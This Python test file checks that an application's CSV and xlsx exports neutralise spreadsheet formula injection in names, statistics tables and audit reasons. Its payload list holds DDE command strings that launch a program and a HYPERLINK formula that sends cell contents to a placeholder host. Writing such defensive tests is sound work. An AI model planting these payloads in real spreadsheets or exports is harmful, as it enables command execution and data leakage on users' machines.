"""Exports are safe to open in Excel (issue 13 point 4): text typed by people that begins
with = + - @, a tab or CR is neutralised with a leading apostrophe in CSV (UTF-8 and cp932)
and is never a formula in xlsx — caseload, statistics and the audit log."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from app.reports.export import csv_bytes, safe_text, xlsx_bytes
from tests.conftest import make_intake

PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&C2,"x")', "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "＝1+1"]


def _csv_cells(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def test_safe_text_rules():
    for p in PAYLOADS:
        assert safe_text(p) == "'" + p
    for fine in ("山田 太郎", "2026-0001", "", "a=b", "髙橋 𠮷子", "ﾀｶﾊｼ"):
        assert safe_text(fine) == fine
    assert safe_text(-5) == -5 and safe_text(3.5) == 3.5   # numbers stay numbers


@pytest.mark.parametrize("payload", PAYLOADS[:5])
def test_caseload_csv_both_encodings_and_xlsx(desk, tmp_path, payload):
    desk.register_intake(make_intake(name=payload, kana="てすと"))
    desk.register_intake(make_intake(name="山田 太郎", kana="やまだ たろう",
                                     birth=date(1970, 1, 1)))
    for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
        out = desk.reports.export_caseload(tmp_path / f"c-{encoding}.csv", "csv", encoding=encoding)
        cells = [c for row in _csv_cells(out.read_bytes(), codec) for c in row]
        assert "'" + payload in cells
        assert payload not in cells
        assert "山田 太郎" in cells                                  # ordinary names untouched
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    out = desk.reports.export_caseload(tmp_path / "c.xlsx", "xlsx")
    ws = load_workbook(out).active
    values = [c for row in ws.iter_rows() for c in row]
    hit = [c for c in values if c.value == payload]
    assert hit and all(c.data_type == "s" and c.quotePrefix for c in hit)
    with zipfile.ZipFile(out) as z:          # no formula anywhere in the workbook
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


def test_statistics_tables_are_neutralised_too():
    table = (["項目", "件数"], [["@地域の窓口", 3], ["=1+1", 1], ["-", 0]])
    for enc, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
        cells = _csv_cells(csv_bytes(table, enc), codec)
        assert cells[1][0] == "'@地域の窓口" and cells[2][0] == "'=1+1" and cells[3][0] == "'-"
        assert cells[1][1] == "3"
    ws = load_workbook(io.BytesIO(xlsx_bytes([("月次", table)]))).active
    assert ws["A3"].value == "=1+1" and ws["A3"].data_type == "s" and ws["B2"].value == 3


def test_audit_csv_neutralises_reasons(desk, tmp_path):
    case = desk.register_intake(make_intake()).case.id
    desk.security.set_sensitive(case, True, "=HYPERLINK(\"http://example.invalid\",\"x\")")
    desk.security.reveal(case, "=cmd|' /C calc'!A0")
    path = tmp_path / "audit.csv"
    desk.security.audit_export_csv(path)
    cells = [c for row in _csv_cells(path.read_bytes(), "utf-8-sig") for c in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(c.startswith("=") for c in cells)
